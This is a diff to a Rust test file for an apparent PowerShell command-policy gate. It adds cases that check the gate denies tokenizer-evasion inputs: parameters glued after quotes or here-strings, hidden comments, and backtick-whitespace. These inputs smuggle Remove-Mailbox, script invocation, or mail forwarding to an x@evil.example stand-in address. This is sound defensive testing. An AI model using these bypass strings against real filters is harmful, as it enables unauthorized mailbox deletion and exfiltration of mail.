@@ -799,6 +799,144 @@ const CASES: &[(&str, Want, &str)] = &[
         Allow,
         "ordinary output variables",
     ),
+    // --- a token ends at its closing quote or bracket (PowerShell's GetCommandArgument) -------
+    (
+        "Get-Mailbox | Where-Object -Property 'Name'-FilterScript:$sb",
+        Deny,
+        "parameter glued after a single-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property \"Name\"-FilterScript $sb",
+        Deny,
+        "parameter glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $(1)-FilterScript $sb",
+        Deny,
+        "parameter glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property (1)-FilterScript $sb",
+        Deny,
+        "parameter glued after parentheses",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @('a')-FilterScript $sb",
+        Deny,
+        "parameter glued after an array subexpression",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property $x.Name-FilterScript $sb",
+        Deny,
+        "parameter glued after a member access",
+    ),
+    (
+        "Get-Mailbox | Where-Object -Property @'\nName\n'@-FilterScript $sb",
+        Deny,
+        "parameter glued after a here-string",
+    ),
+    (
+        "$ExecutionContext.InvokeCommand | ForEach-Object 'x'-MemberName:InvokeScript -ArgumentList 'Remove-Mailbox bob'",
+        Deny,
+        "ForEach-Object -MemberName glued after a string",
+    ),
+    (
+        "Get-Mailbox | ForEach-Object -Begin 'x'-MemberName Delete",
+        Deny,
+        "ForEach-Object -MemberName glued after a string argument",
+    ),
+    (
+        "Get-Mailbox 'bob'--% | Remove-Mailbox bob",
+        Deny,
+        "stop-parsing glued after a string",
+    ),
+    (
+        "Get-Mailbox -Identity 'bob'>C:\\Windows\\x.ps1",
+        NotAllow,
+        "redirection glued after a string",
+    ),
+    // --- comments and here-strings glued to a token in input that spans lines ----------------
+    (
+        "Get-Mailbox 'a'#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a string hides nothing",
+    ),
+    (
+        "Get-Mailbox \"a\"#\"\nRemove-Mailbox bob\n#\"",
+        NotAllow,
+        "line comment glued after a double-quoted string",
+    ),
+    (
+        "Get-Mailbox $(1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after a subexpression",
+    ),
+    (
+        "Get-Mailbox (1)#'\nRemove-Mailbox bob\n#'",
+        NotAllow,
+        "line comment glued after parentheses",
+    ),
+    (
+        "Get-Mailbox a<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a word opens no comment",
+    ),
+    (
+        "Get-Mailbox 5<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` after a number glued into a word opens no comment",
+    ),
+    (
+        "Get-Mailbox<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` inside a command name opens no comment",
+    ),
+    (
+        "Get-Mailbox -Identity<#\nRemove-Mailbox bob\n#>",
+        NotAllow,
+        "`<#` glued to a parameter name",
+    ),
+    (
+        "Get-Mailbox 'a'@'\n'@\nRemove-Mailbox bob",
+        NotAllow,
+        "here-string glued after a string, then a command",
+    ),
+    (
+        "Get-Mailbox 'a'@\"\n\"@\nRemove-Mailbox bob",
+        NotAllow,
+        "expandable here-string glued after a string, then a command",
+    ),
+    // --- a backtick before white space is white space (Tokenizer.NextToken) ----------------
+    (
+        "Get-Mailbox | Where-Object ` -FilterScript $sb",
+        Deny,
+        "backtick-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\t-FilterScript $sb",
+        Deny,
+        "backtick-tab before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{a0}-FilterScript $sb",
+        Deny,
+        "backtick-NBSP before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{2003}-FilterScript $sb",
+        Deny,
+        "backtick-em-space before a parameter",
+    ),
+    (
+        "Get-Mailbox | Where-Object `\u{3000}-FilterScript $sb",
+        Deny,
+        "backtick-ideographic-space before a parameter",
+    ),
+    (
+        "Get-Mailbox ` ; Remove-Mailbox bob",
+        NotAllow,
+        "backtick-space before a statement separator",
+    ),
 ];
 
 fn shipped() -> PolicySet {
@@ -871,4 +1009,67 @@ fn privileged_lines_name_the_deciding_invocation() {
         nested,
         Some((1, "Ne`w-MoveRequest".to_string(), Effect::Approval))
     );
+}
+
+/// Where jitsh follows PowerShell's token boundaries, the parameter a glued token hides is bound.
+#[test]
+fn glued_tokens_show_the_parameter_powershell_binds() {
+    let policies = shipped();
+    let revoked = HashSet::new();
+    let ctx = GateContext {
+        policies: &policies,
+        catalog: Catalog::builtin(),
+        user: "alice",
+        now: time::OffsetDateTime::UNIX_EPOCH,
+        tokens: &[],
+        revoked: &revoked,
+        skew: time::Duration::seconds(30),
+        online: false,
+    };
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "Set-Mailbox -DisplayName 'Rob'-ForwardingSmtpAddress:x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox -DisplayName \"Rob\"-ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName $(1)-DeliverToMailboxAndForward:$true",
+            "Set-Mailbox",
+            "-DeliverToMailboxAndForward",
+        ),
+        (
+            "Set-Mailbox bob -DisplayName ('Rob')-ForwardingAddress x",
+            "Set-Mailbox",
+            "-ForwardingAddress",
+        ),
+        (
+            "Set-Mailbox bob ` -ForwardingSmtpAddress x@evil.example",
+            "Set-Mailbox",
+            "-ForwardingSmtpAddress",
+        ),
+        (
+            "Get-Mailbox | ForEach-Object 'x'-MemberName:Delete",
+            "ForEach-Object",
+            "-MemberName",
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (line, name, param) in cases {
+        let d = check_line(line, &ctx);
+        let seen = d
+            .invocations
+            .iter()
+            .any(|i| i.name == *name && i.params.iter().any(|p| p == param));
+        if !seen || d.decision == Effect::Allow {
+            failures.push(format!(
+                "{line:?}: {name} {param} not seen or allowed: {d:?}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
